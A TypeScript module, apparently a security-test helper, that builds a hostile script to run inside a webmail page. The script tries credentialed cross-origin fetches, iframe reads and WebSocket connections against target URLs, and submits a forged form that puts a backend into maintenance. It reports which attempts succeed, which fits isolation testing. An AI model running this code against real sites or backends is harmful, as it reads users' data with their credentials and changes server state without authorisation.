interface Aims {
  /** A page of the host on which the script runs. */
  readonly own: string;
  readonly targets: readonly string[];
  /** Where a form sets the state of a backend. */
  readonly backends: string;
}

/**
 * The attempts of a hostile script in a webmail, as an expression for its page that yields the successful ones as
 * texts.
 */
export function attackFromMail(aims: Aims): string {
  return `(${attack})(${JSON.stringify(aims)})`;
}

const attack = String.raw`async ({ own, targets, backends }) => {
  const got = [(await fetch(own)).status + ' of the own host'];
  const newFrame = (name) => {
    const frame = Object.assign(document.createElement('iframe'), { name });
    document.body.append(frame);
    return { frame, loaded: new Promise((resolve) => frame.addEventListener('load', resolve)) };
  };
  for (const url of targets) {
    for (const mode of ['cors', 'no-cors']) {
      const answer = await fetch(url, { mode, credentials: 'include' }).catch(() => undefined);
      const text = await answer?.text();
      if (text) got.push(mode + ' ' + url + ': ' + text.slice(0, 80));
    }
    const { frame, loaded } = newFrame('');
    frame.src = url;
    await loaded;
    if (frame.contentDocument?.body.textContent) got.push('frame ' + url);
    const socket = new WebSocket(url.replace('http', 'ws'));
    await new Promise((resolve) => {
      socket.addEventListener('error', resolve);
      socket.addEventListener('open', () => resolve(got.push('socket ' + url)));
    });
  }
  const { loaded } = newFrame('sink');
  const form = document.body.appendChild(document.createElement('form'));
  Object.assign(form, { method: 'post', action: backends, target: 'sink' });
  form.innerHTML = '<input name="backend" value="a"><input name="state" value="MAINT"><input name="reason" value="x">';
  form.submit();
  await loaded;
  return got;
}`;
